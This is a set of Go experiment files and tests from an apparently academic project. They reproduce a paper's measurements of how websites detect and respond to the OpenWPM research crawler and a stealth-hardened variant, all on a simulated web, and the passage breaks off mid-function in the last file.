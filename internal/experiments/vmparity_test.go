package experiments

import (
	"testing"

	"gullible/internal/websim"
)

// TestVMScanMatchesInterpreter is the engine-parity acceptance scenario: a
// crawl executed on the bytecode VM must produce byte-identical artifacts —
// storage digest, report, JS call tally — to the same crawl on the
// tree-walking interpreter. Any VM semantics drift (values, errors, step
// accounting, property-access hook order) surfaces here as a digest delta.
func TestVMScanMatchesInterpreter(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode")
	}
	const n = 40
	scan := func(disableVM bool) *ScanResult {
		world := websim.New(websim.Options{Seed: 13, NumSites: n})
		r, err := RunScanObserved(world, n, ScanOptions{
			MaxSubpages: 1, Workers: 1, DisableVM: disableVM,
		}, nil)
		if err != nil {
			t.Fatalf("RunScanObserved(disableVM=%v): %v", disableVM, err)
		}
		return r
	}

	interp := scan(true)
	vm := scan(false)

	if a, b := interp.Storage.Digest(), vm.Storage.Digest(); a != b {
		t.Fatalf("storage digest diverges: interpreter %s, vm %s", a, b)
	}
	if a, b := len(interp.Storage.JSCalls), len(vm.Storage.JSCalls); a != b {
		t.Fatalf("JS call tally diverges: interpreter %d, vm %d", a, b)
	}
	if interp.Report.String() != vm.Report.String() {
		t.Fatalf("report diverges:\ninterpreter:\n%s\nvm:\n%s", interp.Report, vm.Report)
	}
}
