package experiments

import (
	"fmt"
	"sort"
	"strings"

	"gullible/internal/analysis"
	"gullible/internal/websim"
)

// AgreementRow is the static/dynamic comparison for one tamper rule, counted
// over script URLs served during the crawl.
type AgreementRow struct {
	Rule string
	// Paired is true for rules with a dynamic counterpart in the JS
	// instrument (webdriver reads, marker reads, honey iteration); the
	// remaining rules are statically observable only, so their dynamic
	// columns are structurally zero.
	Paired bool
	// Both counts script URLs flagged by the static rule AND observed
	// triggering its dynamic signal; StaticOnly and DynamicOnly count the
	// disagreements. StaticOnly scripts are the paper's gullibility signal:
	// code that carries a probe the crawler never saw fire (dead branches,
	// interaction-gated paths). DynamicOnly scripts evaded static analysis
	// (obfuscation beyond the folder, or unparsable sources).
	Both, StaticOnly, DynamicOnly int
}

// AgreementResult is the per-rule static-vs-dynamic agreement over one scan.
type AgreementResult struct {
	NumSites int
	// ScriptURLs is the number of distinct script URLs considered.
	ScriptURLs int
	// TamperedScripts is the number of distinct script bodies with at least
	// one static finding (the persisted javascript_tamper table size).
	TamperedScripts int
	// Rows holds one entry per rule in analysis.AllRules order.
	Rows []AgreementRow
}

// AgreementFromScan derives the per-rule agreement report from a completed
// scan. The static side reads the persisted javascript_tamper table (falling
// back to re-analysis when the crawl ran without CrawlConfig.Tamper); the
// dynamic side reads the recorded JS-call log. Both sides key by script URL.
func AgreementFromScan(r *ScanResult) *AgreementResult {
	st := r.Storage

	// static rule → script URL set, via the content-addressed tamper table
	findingsBySHA := map[string][]string{}
	for _, t := range st.Tampers {
		rules := map[string]bool{}
		for _, f := range t.Findings {
			rules[f.Rule] = true
		}
		for rule := range rules {
			findingsBySHA[t.SHA256] = append(findingsBySHA[t.SHA256], rule)
		}
	}
	staticURLs := map[string]map[string]bool{}
	mark := func(rule, url string) {
		if staticURLs[rule] == nil {
			staticURLs[rule] = map[string]bool{}
		}
		staticURLs[rule][url] = true
	}
	allURLs := map[string]bool{}
	for sha, f := range st.ScriptFiles {
		for _, url := range f.URLs {
			allURLs[url] = true
		}
		rules, ok := findingsBySHA[sha]
		if !ok && len(st.Tampers) == 0 {
			// crawl ran without the tamper hook: analyse now (same code path,
			// so the report is identical to what the hook would have stored)
			rep := analysis.Analyze(f.Content)
			rules = rep.Rules()
		}
		for _, rule := range rules {
			for _, url := range f.URLs {
				mark(rule, url)
			}
		}
	}

	// dynamic signal → script URL set, from the recorded call log
	dynURLs := map[string]map[string]bool{}
	dynMark := func(rule, url string) {
		if dynURLs[rule] == nil {
			dynURLs[rule] = map[string]bool{}
		}
		dynURLs[rule][url] = true
	}
	honeySet := map[string]bool{}
	for _, h := range r.Honey {
		honeySet[h] = true
	}
	honeyHits := map[string]map[string]bool{}
	for _, c := range st.JSCalls {
		if c.ScriptURL == "" {
			continue
		}
		allURLs[c.ScriptURL] = true
		switch {
		case c.Symbol == "Navigator.webdriver":
			dynMark(analysis.RuleWebdriverProbe, c.ScriptURL)
		case strings.HasPrefix(c.Symbol, "honey:"):
			if name := strings.TrimPrefix(c.Symbol, "honey:"); honeySet[name] {
				if honeyHits[c.ScriptURL] == nil {
					honeyHits[c.ScriptURL] = map[string]bool{}
				}
				honeyHits[c.ScriptURL][name] = true
			}
		case strings.HasPrefix(c.Symbol, "window."):
			name := strings.TrimPrefix(c.Symbol, "window.")
			for _, m := range analysis.OpenWPMMarkers {
				if name == m {
					dynMark(analysis.RuleOpenWPMMarker, c.ScriptURL)
				}
			}
		}
	}
	// a script that touched every honey property iterated the object — the
	// dynamic counterpart of the honey-enumeration rule
	for url, hits := range honeyHits {
		if len(r.Honey) > 0 && len(hits) >= len(r.Honey) {
			dynMark(analysis.RuleHoneyEnumeration, url)
		}
	}

	paired := map[string]bool{
		analysis.RuleWebdriverProbe:   true,
		analysis.RuleOpenWPMMarker:    true,
		analysis.RuleHoneyEnumeration: true,
	}
	res := &AgreementResult{
		NumSites:        r.NumSites,
		ScriptURLs:      len(allURLs),
		TamperedScripts: len(st.Tampers),
	}
	for _, rule := range analysis.AllRules {
		row := AgreementRow{Rule: rule, Paired: paired[rule]}
		urls := map[string]bool{}
		for u := range staticURLs[rule] {
			urls[u] = true
		}
		for u := range dynURLs[rule] {
			urls[u] = true
		}
		keys := make([]string, 0, len(urls))
		for u := range urls {
			keys = append(keys, u)
		}
		sort.Strings(keys)
		for _, u := range keys {
			s, d := staticURLs[rule][u], dynURLs[rule][u]
			switch {
			case s && d:
				row.Both++
			case s:
				row.StaticOnly++
			default:
				row.DynamicOnly++
			}
		}
		res.Rows = append(res.Rows, row)
	}
	return res
}

// RunStaticDynamicAgreement crawls the top numSites sites of a seeded
// synthetic web with the tamper hook attached and reports per-rule agreement
// between the persisted static findings and the dynamic instrumentation log.
// Same seed, same output: the report is deterministic.
func RunStaticDynamicAgreement(worldSeed int64, numSites int, progress func(done, total int)) *AgreementResult {
	world := websim.New(websim.Options{Seed: worldSeed, NumSites: numSites})
	r := RunScan(world, numSites, 2, progress)
	return AgreementFromScan(r)
}

// TableAgreement renders the agreement report.
func TableAgreement(a *AgreementResult) *Table {
	t := &Table{
		ID:     "AGREEMENT",
		Title:  "static (AST tamper rules) vs dynamic (JS instrument) agreement, by script URL",
		Header: []string{"rule", "both", "static-only", "dynamic-only", "agreement"},
	}
	for _, row := range a.Rows {
		total := row.Both + row.StaticOnly + row.DynamicOnly
		agr, dyn := "-", "-"
		if row.Paired {
			dyn = fmt.Sprint(row.DynamicOnly)
			if total > 0 {
				agr = pct(row.Both, total)
			}
		}
		t.AddRow(row.Rule, row.Both, row.StaticOnly, dyn, agr)
	}
	t.Notes = append(t.Notes,
		fmt.Sprintf("%d script URLs over %d sites; %d distinct bodies with static findings",
			a.ScriptURLs, a.NumSites, a.TamperedScripts),
		"static-only on paired rules = probes the crawler never saw fire (the gullibility gap)",
		"dynamic-only = scripts that evaded static analysis",
		"unpaired rules have no dynamic counterpart; their dynamic columns are structurally empty")
	return t
}
