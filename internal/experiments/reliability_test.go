package experiments

import (
	"reflect"
	"strings"
	"testing"

	"gullible/internal/faults"
	"gullible/internal/websim"
)

// TestFaultedScanAccountingAndDeterminism is the acceptance criterion for the
// fault-injection harness: a seeded profile over a 500-site scan must inject
// at least four distinct fault kinds, account for every input site, and
// reproduce the identical crawl report byte-for-byte under the same seed.
func TestFaultedScanAccountingAndDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	const sites = 500
	run := func() *ScanResult {
		world := websim.New(websim.Options{Seed: 42, NumSites: sites})
		p := faults.DefaultProfile()
		return RunScanOpts(world, sites, ScanOptions{
			MaxSubpages:     0,
			FaultProfile:    &p,
			FaultSeed:       9,
			MaxVisitSeconds: 90,
		}, nil)
	}
	a := run()
	rep := a.Report

	if rep.Sites != sites || !rep.Accounted() {
		t.Fatalf("site accounting broken: %+v", rep)
	}

	// no site is silently lost: every Tranco URL has a front-page visit record
	front := map[string]bool{}
	for _, v := range a.Storage.Visits {
		if !v.Subpage {
			front[v.SiteURL] = true
		}
	}
	for _, u := range websim.Tranco(sites) {
		if !front[u] {
			t.Fatalf("site %s has no visit record", u)
		}
	}

	kinds := 0
	for _, n := range a.FaultKinds {
		if n > 0 {
			kinds++
		}
	}
	if kinds < 4 {
		t.Fatalf("only %d fault kinds injected, want ≥ 4: %v", kinds, a.FaultKinds)
	}
	if rep.Restarts == 0 || rep.Completed == 0 {
		t.Fatalf("implausible crawl under faults: %+v", rep)
	}

	b := run()
	if rep.String() != b.Report.String() {
		t.Fatalf("same seed produced different reports:\n%s\n%s", rep, b.Report)
	}
	if !reflect.DeepEqual(a.FaultKinds, b.FaultKinds) {
		t.Fatalf("same seed injected different faults: %v vs %v", a.FaultKinds, b.FaultKinds)
	}
}

// TestRunReliabilityHardenedVsVanilla checks the vanilla-vs-hardened
// comparison: same fault stream, and the hardened pipeline keeps at least as
// many sites as the blind-retry one.
func TestRunReliabilityHardenedVsVanilla(t *testing.T) {
	r := RunReliability(42, 7, ReliabilityOptions{NumSites: 60})
	if r.Vanilla.Sites != 60 || r.Hardened.Sites != 60 {
		t.Fatalf("site counts: vanilla %d hardened %d", r.Vanilla.Sites, r.Hardened.Sites)
	}
	if !r.Vanilla.Accounted() || !r.Hardened.Accounted() {
		t.Fatalf("unaccounted reports:\nvanilla %+v\nhardened %+v", r.Vanilla, r.Hardened)
	}
	if len(r.FaultKinds) == 0 {
		t.Fatal("no faults recorded — the comparison measured nothing")
	}
	if r.Hardened.CompletionRate() < r.Vanilla.CompletionRate() {
		t.Fatalf("hardened pipeline completed less than vanilla: %.3f < %.3f",
			r.Hardened.CompletionRate(), r.Vanilla.CompletionRate())
	}
	tbl := TableReliability(r).String()
	for _, want := range []string{"completion rate", "vanilla", "hardened"} {
		if !strings.Contains(tbl, want) {
			t.Fatalf("reliability table missing %q:\n%s", want, tbl)
		}
	}
}
