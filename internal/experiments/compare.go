package experiments

import (
	"fmt"
	"sort"

	"gullible/internal/blocklist"
	"gullible/internal/cookiecls"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stats"
	"gullible/internal/stealth"
	"gullible/internal/websim"
)

// CompareResult holds the Sec. 6.3 parallel crawls: three repetitions of
// WPM (vanilla) and WPM_hide over the detector-site sample, on separate
// client identities against the same (stateful) world.
type CompareResult struct {
	Sites []string
	Runs  []RunPair
}

// RunPair is one repetition.
type RunPair struct {
	WPM  *openwpm.Storage
	Hide *openwpm.Storage
}

// DetectorSiteSample selects the comparison list: the first n sites (by
// rank) that deploy active, cloaking-capable detectors — the analogue of
// the paper's 1,487 detector sites.
func DetectorSiteSample(world *websim.World, n int) []string {
	var out []string
	for rank := 1; rank <= world.Opts.NumSites && len(out) < n; rank++ {
		s := world.Site(rank)
		if s.HasAnyDetector() && s.Cloaks {
			out = append(out, websim.SiteURL(rank))
		}
	}
	return out
}

// RunComparison performs `runs` repetitions of the parallel crawl.
func RunComparison(world *websim.World, sites []string, runs int, progress func(run, done, total int)) *CompareResult {
	res := &CompareResult{Sites: sites}
	for run := 0; run < runs; run++ {
		wpmTM := openwpm.NewTaskManager(openwpm.CrawlConfig{
			OS: jsdom.Ubuntu, Mode: jsdom.Regular,
			Transport: world, ClientID: "wpm-machine",
			DwellSeconds: 60,
			JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		})
		hideTM := openwpm.NewTaskManager(openwpm.CrawlConfig{
			OS: jsdom.Ubuntu, Mode: jsdom.Regular,
			Transport: world, ClientID: "hide-machine",
			DwellSeconds:   60,
			HTTPInstrument: true, CookieInstrument: true,
			Stealth: stealth.New(),
		})
		for i, u := range sites {
			// synchronised visits: both machines load the same site in turn
			wpmTM.VisitSite(u)
			hideTM.VisitSite(u)
			if progress != nil && (i+1)%250 == 0 {
				progress(run+1, i+1, len(sites))
			}
		}
		res.Runs = append(res.Runs, RunPair{WPM: wpmTM.Storage, Hide: hideTM.Storage})
	}
	return res
}

// Table8 compares HTTP request resource types between the variants.
func Table8(c *CompareResult) *Table {
	t := &Table{
		ID:     "Table 8",
		Title:  "Comparison of HTTP request resource types (WPM vs WPM_hide)",
		Header: []string{"resource type", "WPM r1", "WPM_hide r1", "diff r1", "diff r2", "diff r3"},
	}
	type counts struct{ wpm, hide map[httpsim.ResourceType]int }
	var per []counts
	for _, run := range c.Runs {
		per = append(per, counts{run.WPM.RequestsByType(), run.Hide.RequestsByType()})
	}
	// order rows by |diff r1| descending, like the paper
	type row struct {
		rt   httpsim.ResourceType
		diff float64
	}
	var rows []row
	for _, rt := range httpsim.AllResourceTypes {
		w := per[0].wpm[rt]
		h := per[0].hide[rt]
		if w == 0 && h == 0 {
			continue
		}
		d := 0.0
		if w > 0 {
			d = 100 * (float64(h) - float64(w)) / float64(w)
		} else {
			d = 100
		}
		rows = append(rows, row{rt, d})
	}
	sort.Slice(rows, func(i, j int) bool { return abs(rows[i].diff) > abs(rows[j].diff) })
	totalW, totalH := 0, 0
	for _, r := range rows {
		cells := []any{string(r.rt), per[0].wpm[r.rt], per[0].hide[r.rt], diffPct(per[0].wpm[r.rt], per[0].hide[r.rt])}
		for i := 1; i < len(per); i++ {
			cells = append(cells, diffPct(per[i].wpm[r.rt], per[i].hide[r.rt]))
		}
		for len(cells) < 6 {
			cells = append(cells, "")
		}
		t.AddRow(cells...)
	}
	for _, r := range rows {
		totalW += per[0].wpm[r.rt]
		totalH += per[0].hide[r.rt]
	}
	totals := []any{"total", totalW, totalH, diffPct(totalW, totalH)}
	for i := 1; i < len(per); i++ {
		tw, th := 0, 0
		for _, r := range rows {
			tw += per[i].wpm[r.rt]
			th += per[i].hide[r.rt]
		}
		totals = append(totals, diffPct(tw, th))
	}
	for len(totals) < 6 {
		totals = append(totals, "")
	}
	t.AddRow(totals...)
	t.Notes = append(t.Notes, "paper r1: csp_report -76%, beacon +11%, xhr +5%, image +1.5%, script +1.4%, total +1.9% (growing to +5.3% by r3)")
	return t
}

func abs(f float64) float64 {
	if f < 0 {
		return -f
	}
	return f
}

// Table9 counts ad/tracker requests via the EasyList/EasyPrivacy engines.
func Table9(c *CompareResult) *Table {
	t := &Table{
		ID:     "Table 9",
		Title:  "HTTP requests to ad/tracker resources (EasyList / EasyPrivacy)",
		Header: []string{"run", "EasyList WPM", "EasyList WPM_hide", "EasyPrivacy WPM", "EasyPrivacy WPM_hide"},
	}
	el, ep := websim.EasyList(), websim.EasyPrivacy()
	count := func(st *openwpm.Storage, l *blocklist.List) int {
		n := 0
		for _, r := range st.Requests {
			if l.Match(r.URL) {
				n++
			}
		}
		return n
	}
	for i, run := range c.Runs {
		elW, elH := count(run.WPM, el), count(run.Hide, el)
		epW, epH := count(run.WPM, ep), count(run.Hide, ep)
		t.AddRow(fmt.Sprintf("r%d", i+1),
			elW, fmt.Sprintf("%d (%s)", elH, diffPct(elW, elH)),
			epW, fmt.Sprintf("%d (%s)", epH, diffPct(epW, epH)))
	}
	t.Notes = append(t.Notes, "paper: WPM_hide sees ≈+1.6% to +5.8% EasyList and up to +7.9% EasyPrivacy traffic; significant by Wilcoxon (p < 0.0001)")
	// Wilcoxon over per-site ad/tracker counts of the final run
	if len(c.Runs) > 0 {
		last := c.Runs[len(c.Runs)-1]
		xs, ys := perSiteCounts(c.Sites, last.WPM, el), perSiteCounts(c.Sites, last.Hide, el)
		w := stats.Wilcoxon(xs, ys)
		if w.OK {
			t.Notes = append(t.Notes, fmt.Sprintf("measured Wilcoxon (EasyList, final run): p = %.6f over %d paired sites", w.P, w.N))
		}
	}
	return t
}

func perSiteCounts(sites []string, st *openwpm.Storage, l *blocklist.List) []float64 {
	bySite := map[string]int{}
	for _, r := range st.Requests {
		if l.Match(r.URL) {
			bySite[httpsim.ETLDPlusOne(httpsim.Host(r.TopURL))]++
		}
	}
	out := make([]float64, len(sites))
	for i, s := range sites {
		out[i] = float64(bySite[httpsim.ETLDPlusOne(httpsim.Host(s))])
	}
	return out
}

// Table10 compares served cookies: first-party, third-party and tracking.
func Table10(c *CompareResult) *Table {
	t := &Table{
		ID:    "Table 10",
		Title: "Served cookies and differences with WPM_hide",
		Header: []string{"run", "1st-party WPM", "1st-party hide", "3rd-party WPM", "3rd-party hide",
			"tracking WPM", "tracking hide"},
	}
	for i, run := range c.Runs {
		fw, tw := cookieSplit(run.WPM)
		fh, th := cookieSplit(run.Hide)
		trkW := len(trackingCookies(c, i, true))
		trkH := len(trackingCookies(c, i, false))
		t.AddRow(fmt.Sprintf("r%d", i+1),
			fw, fmt.Sprintf("%d (%s)", fh, diffPct(fw, fh)),
			tw, fmt.Sprintf("%d (%s)", th, diffPct(tw, th)),
			trkW, fmt.Sprintf("%d (%s)", trkH, diffPct(trkW, trkH)))
	}
	t.Notes = append(t.Notes, "paper: WPM_hide +3-4% first-party, +5-8% third-party, +42-60% tracking cookies; effect grows per run as WPM is re-identified")
	// significance: per-site cookie counts, final run
	if len(c.Runs) > 0 {
		last := c.Runs[len(c.Runs)-1]
		xs := perSiteCookieCounts(c.Sites, last.WPM)
		ys := perSiteCookieCounts(c.Sites, last.Hide)
		w := stats.Wilcoxon(xs, ys)
		if w.OK {
			t.Notes = append(t.Notes, fmt.Sprintf("measured Wilcoxon (cookies/site, final run): p = %.6f over %d paired sites", w.P, w.N))
		}
	}
	return t
}

func cookieSplit(st *openwpm.Storage) (first, third int) {
	for _, ck := range st.Cookies {
		if ck.FirstParty {
			first++
		} else {
			third++
		}
	}
	return
}

func perSiteCookieCounts(sites []string, st *openwpm.Storage) []float64 {
	bySite := map[string]int{}
	for _, ck := range st.Cookies {
		bySite[httpsim.ETLDPlusOne(httpsim.Host(ck.TopURL))]++
	}
	out := make([]float64, len(sites))
	for i, s := range sites {
		out[i] = float64(bySite[httpsim.ETLDPlusOne(httpsim.Host(s))])
	}
	return out
}

// trackingCookies classifies cookies of one run per the Englehardt/Chen
// criteria, pairing the two machines' observed values (Sec. 6.3.3).
func trackingCookies(c *CompareResult, run int, forWPM bool) []string {
	// collect values per (domain, name) per machine across ALL runs — the
	// "always set" and cross-run criteria need the full series
	type key struct{ domain, name string }
	valsW := map[key][]string{}
	valsH := map[key][]string{}
	expires := map[key]float64{}
	seenW := map[key]int{}
	seenH := map[key]int{}
	for _, rp := range c.Runs {
		curW := map[key]string{}
		for _, ck := range rp.WPM.Cookies {
			k := key{ck.Domain, ck.Name}
			curW[k] = ck.Value
			if ck.Expires > expires[k] {
				expires[k] = ck.Expires
			}
		}
		for k, v := range curW {
			valsW[k] = append(valsW[k], v)
			seenW[k]++
		}
		curH := map[key]string{}
		for _, ck := range rp.Hide.Cookies {
			k := key{ck.Domain, ck.Name}
			curH[k] = ck.Value
			if ck.Expires > expires[k] {
				expires[k] = ck.Expires
			}
		}
		for k, v := range curH {
			valsH[k] = append(valsH[k], v)
			seenH[k]++
		}
	}
	// classify; then count per machine for the requested run. "Always set"
	// uses the machine that consistently receives the cookie as reference:
	// a cookie withheld from the detected bot in some runs is still a
	// tracking cookie — that withholding is exactly the Table 10 effect.
	tracking := map[key]bool{}
	for k := range expires {
		obs := cookiecls.Observation{
			Name: k.name, Domain: k.domain,
			ExpiresSeconds: expires[k],
			ValuesA:        valsW[k], ValuesB: valsH[k],
			RunsObserved: maxInt(seenW[k], seenH[k]), RunsTotal: len(c.Runs),
		}
		if len(obs.ValuesA) == 0 || len(obs.ValuesB) == 0 {
			// only one machine ever received it: user-identifying when
			// long-lived, identifier-sized and consistently set there
			tracking[k] = obs.ExpiresSeconds >= cookiecls.SecondsIn3Months &&
				obs.RunsObserved == len(c.Runs) &&
				(longEnough(valsW[k]) || longEnough(valsH[k]))
			continue
		}
		tracking[k] = cookiecls.IsTracking(obs)
	}
	var out []string
	rp := c.Runs[run]
	st := rp.WPM
	if !forWPM {
		st = rp.Hide
	}
	seen := map[key]bool{}
	for _, ck := range st.Cookies {
		k := key{ck.Domain, ck.Name}
		if tracking[k] && !seen[k] {
			seen[k] = true
			out = append(out, k.domain+"/"+k.name)
		}
	}
	sort.Strings(out)
	return out
}

func longEnough(vals []string) bool {
	for _, v := range vals {
		if len(v) >= cookiecls.MinValueLen {
			return true
		}
	}
	return false
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// Figure6 computes per-API call coverage: the share of WPM_hide-observed
// calls that vanilla WPM also records.
func Figure6(c *CompareResult) *Table {
	t := &Table{
		ID:     "Figure 6",
		Title:  "API calls in the context of DOM creation: WPM coverage of WPM_hide's records",
		Header: []string{"API", "WPM calls", "WPM_hide calls", "coverage"},
	}
	if len(c.Runs) == 0 {
		return t
	}
	run := c.Runs[0]
	w := run.WPM.JSCallsBySymbol()
	h := run.Hide.JSCallsBySymbol()
	apis := []string{"Screen.top", "Screen.width", "Screen.availTop", "Screen.availLeft", "Navigator.userAgent"}
	for _, api := range apis {
		cov := "n/a"
		if h[api] > 0 {
			cov = fmt.Sprintf("%.0f%%", 100*float64(min(w[api], h[api]))/float64(h[api]))
		}
		t.AddRow(api, w[api], h[api], cov)
	}
	t.Notes = append(t.Notes, "paper: Screen.top ≈99% covered; Screen.availLeft only ≈63% — up to 37%-points of calls missed by vanilla WPM")
	return t
}
