package experiments

import (
	"gullible/internal/httpsim"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

// AblationMethods quantifies what each analysis method contributes — the
// methodological point behind Table 5 and the paper's Sec. 8 advice. It
// scans the top n sites four ways and reports detector-site recovery
// against the generator's ground truth:
//
//   - static only (code patterns on collected files)
//   - dynamic only (recorded calls)
//   - combined (the paper's method)
//   - combined + interaction simulation (executes hover-gated detectors,
//     an extension beyond the paper)
func AblationMethods(world *websim.World, n int) *Table {
	t := &Table{
		ID:     "Ablation",
		Title:  "Analysis-method coverage of ground-truth detector sites",
		Header: []string{"method", "sites found", "ground truth", "recall"},
	}

	// ground truth: sites deploying any detector
	truth := map[string]bool{}
	for rank := 1; rank <= n; rank++ {
		if world.Site(rank).HasAnyDetector() {
			truth[httpsim.ETLDPlusOne(websim.SiteDomain(rank))] = true
		}
	}

	// baseline scan (no interaction)
	base := RunScan(world, n, 3, nil)

	// interaction scan
	cfg := scanCrawlConfig(world, 3)
	cfg.SimulateInteraction = true
	tm := openwpm.NewTaskManager(cfg)
	tm.Crawl(websim.Tranco(n))
	inter := Analyze(world, tm, n)

	row := func(name string, found map[string]bool) {
		hits := 0
		for site := range found {
			if truth[site] {
				hits++
			}
		}
		t.AddRow(name, len(found), len(truth), pct(hits, len(truth)))
	}
	row("static only", base.StaticClean)
	row("dynamic only", base.DynamicClean)
	row("dynamic + interaction", inter.DynamicClean)
	row("combined (paper)", union(base.StaticClean, base.DynamicClean))
	row("combined + interaction", union(inter.StaticClean, inter.DynamicClean))
	t.Notes = append(t.Notes,
		"interaction simulation executes hover-gated detectors that dynamic analysis otherwise misses — but cannot help with CSP-shielded pages, where the vanilla instrument never installs")
	return t
}
