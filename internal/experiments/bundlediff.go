package experiments

import (
	"fmt"

	"gullible/internal/bundle"
	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
	"gullible/internal/websim"
)

// BundleDiffResult is one offline "same site, different observer" check: a
// crawl recorded into an execution bundle, replayed against the archive
// under a variant configuration, and diffed per visit. Because the variant
// re-executes against the recorded web, every divergence is attributable to
// the observer — the sites cannot have changed between runs.
type BundleDiffResult struct {
	Sites     int
	WorldSeed int64
	Variant   string

	Base    *bundle.Bundle
	Replay  *bundle.Bundle
	Diff    *bundle.DiffReport
	Hits    int
	Misses  int
	BaseRep *openwpm.CrawlReport
	VarRep  *openwpm.CrawlReport
}

// BundleDiffOptions configures RunBundleDiff.
type BundleDiffOptions struct {
	NumSites    int
	MaxSubpages int

	// Variant selects the replay-side configuration change: "stealth"
	// (hardened instrument + automation masking), "headless" (run-mode
	// switch), "legacy" (OpenWPM 0.10.0 instrument globals) or "nohoney"
	// (honey properties removed). Default "stealth".
	Variant string

	// FaultProfile, when non-nil, records the base crawl under seeded fault
	// injection (the faults are archived and replayed too).
	FaultProfile *faults.Profile
	FaultSeed    int64

	// MissPolicy for the variant replay (default synthesize-404: variant
	// observers may issue requests the recording crawl never made).
	MissPolicy bundle.MissPolicy
}

// VariantMutator returns the configuration change for a named replay
// variant (shared with cmd/wpmbundle's replay subcommand).
func VariantMutator(variant string) (func(*openwpm.CrawlConfig), error) {
	switch variant {
	case "stealth":
		return func(c *openwpm.CrawlConfig) { c.Stealth = stealth.New() }, nil
	case "headless":
		return func(c *openwpm.CrawlConfig) { c.Mode = jsdom.Headless }, nil
	case "legacy":
		return func(c *openwpm.CrawlConfig) { c.LegacyInstrumentGlobals = true }, nil
	case "nohoney":
		return func(c *openwpm.CrawlConfig) { c.HoneyProps = 0 }, nil
	}
	return nil, fmt.Errorf("experiments: unknown bundle-diff variant %q (want stealth, headless, legacy or nohoney)", variant)
}

// RunBundleDiff records a vanilla Sec. 4 scan configuration into a bundle,
// replays the archive under a variant observer, and returns the structured
// per-visit diff — the paper's gullibility checks without a second live
// crawl.
func RunBundleDiff(worldSeed int64, opts BundleDiffOptions) (*BundleDiffResult, error) {
	if opts.NumSites == 0 {
		opts.NumSites = 30
	}
	if opts.MaxSubpages == 0 {
		opts.MaxSubpages = 2
	}
	if opts.Variant == "" {
		opts.Variant = "stealth"
	}
	if opts.MissPolicy == bundle.MissFail {
		opts.MissPolicy = bundle.MissSynthesize404
	}
	mutate, err := VariantMutator(opts.Variant)
	if err != nil {
		return nil, err
	}

	world := websim.New(websim.Options{Seed: worldSeed, NumSites: opts.NumSites, AvailabilityAttacks: true})
	cfg := scanCrawlConfig(world, opts.MaxSubpages)
	cfg.DwellSeconds = 5 // offline checks don't need the paper's 60 s dwell
	meta := map[string]string{
		"experiment": "bundlediff",
		"worldSeed":  fmt.Sprint(worldSeed),
		"variant":    opts.Variant,
	}
	if opts.FaultProfile != nil {
		inj := faults.NewInjector(opts.FaultSeed, *opts.FaultProfile, world)
		inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
		cfg.Transport = inj
		cfg = cfg.Hardened()
		meta["faultSeed"] = fmt.Sprint(opts.FaultSeed)
	}

	base, baseRep, _, err := bundle.RecordCrawl(cfg, websim.Tranco(opts.NumSites), meta)
	if err != nil {
		return nil, fmt.Errorf("experiments: record base crawl: %w", err)
	}

	rec := bundle.NewRecorder(meta)
	varRep, tm, rt := bundle.ReplayCrawl(base, opts.MissPolicy, func(c *openwpm.CrawlConfig) {
		mutate(c)
		c.Recorder = rec
	})
	replayed, err := rec.Finalize(tm.Cfg, base.Sites, varRep)
	if err != nil {
		return nil, fmt.Errorf("experiments: finalize variant bundle: %w", err)
	}

	return &BundleDiffResult{
		Sites:     opts.NumSites,
		WorldSeed: worldSeed,
		Variant:   opts.Variant,
		Base:      base,
		Replay:    replayed,
		Diff:      bundle.Diff(base, replayed),
		Hits:      rt.Hits,
		Misses:    rt.Misses,
		BaseRep:   baseRep,
		VarRep:    varRep,
	}, nil
}

// TableBundleDiff renders the offline observer-divergence summary.
func TableBundleDiff(r *BundleDiffResult) *Table {
	t := &Table{
		ID:     "BundleDiff",
		Title:  fmt.Sprintf("Offline replay divergence, %q variant (%d sites, world seed %d)", r.Variant, r.Sites, r.WorldSeed),
		Header: []string{"metric", "value"},
	}
	symbols := map[string]bool{}
	reqA, reqB, bodies, cookies, outcomes := 0, 0, 0, 0, 0
	for _, v := range r.Diff.Visits {
		reqA += len(v.RequestsOnlyInA)
		reqB += len(v.RequestsOnlyInB)
		bodies += len(v.BodyChanged)
		cookies += len(v.CookiesOnlyInA) + len(v.CookiesOnlyInB)
		if v.OutcomeA != "" || v.OutcomeB != "" {
			outcomes++
		}
		for _, s := range v.JSSymbols {
			symbols[s.Symbol] = true
		}
	}
	t.AddRow("visits compared", len(r.Base.Visits))
	t.AddRow("visits differing", len(r.Diff.Visits))
	t.AddRow("config changes", len(r.Diff.ConfigChanges))
	t.AddRow("requests only in base", reqA)
	t.AddRow("requests only in variant", reqB)
	t.AddRow("bodies changed", bodies)
	t.AddRow("js symbols diverging", len(symbols))
	t.AddRow("cookie deltas", cookies)
	t.AddRow("outcome changes", outcomes)
	t.AddRow("replay hits / misses", fmt.Sprintf("%d / %d", r.Hits, r.Misses))
	t.Notes = append(t.Notes,
		"both observers executed against the identical archived web: every divergence is caused by the observer, not site churn",
	)
	return t
}
