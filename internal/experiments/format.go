// Package experiments regenerates every table and figure of the paper's
// evaluation from the simulation: the fingerprint-surface tables (2–4), the
// detector-incidence scan (Tables 5–7, 11–13, Figures 3–5), the WPM vs
// WPM_hide comparison (Tables 8–10, Figure 6), the literature tallies
// (Tables 1, 14, 15) and the prototype-pollution illustration (Figure 2).
// Each runner returns a Table that renders the same rows/series the paper
// reports, alongside the paper's values where the comparison is meaningful.
package experiments

import (
	"fmt"
	"strings"
)

// Table is a rendered experiment result.
type Table struct {
	ID     string
	Title  string
	Header []string
	Rows   [][]string
	Notes  []string
}

// AddRow appends a row of stringable cells.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
